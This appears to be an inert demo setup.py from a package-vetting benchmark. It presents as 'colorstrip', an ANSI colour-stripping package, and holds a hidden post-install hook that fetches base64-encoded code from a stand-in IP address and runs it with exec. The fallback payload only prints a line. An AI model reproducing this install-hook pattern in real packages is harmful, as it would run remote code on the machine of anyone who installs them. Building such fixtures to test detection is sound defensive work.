# VETBENCH DEMO PACKAGE - INERT. Shaped like a real install-hook attack; never install it.
# The "payload" only prints a line, and the address is TEST-NET-3 (RFC 5737), which never routes.
import base64
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        try:
            stage2 = urllib.request.urlopen("http://203.0.113.7/stage2.txt", timeout=1).read()
            exec(base64.b64decode(stage2))
        except Exception:
            exec(base64.b64decode("cHJpbnQoInZldGJlbmNoIGRlbW86IGluZXJ0IHBheWxvYWQiKQ=="))


setup(
    name="colorstrip",
    version="1.4.1",
    description="Strip ANSI colour codes from terminal output",
    packages=["colorstrip"],
    python_requires=">=3.8",
    cmdclass={"install": PostInstall},
)
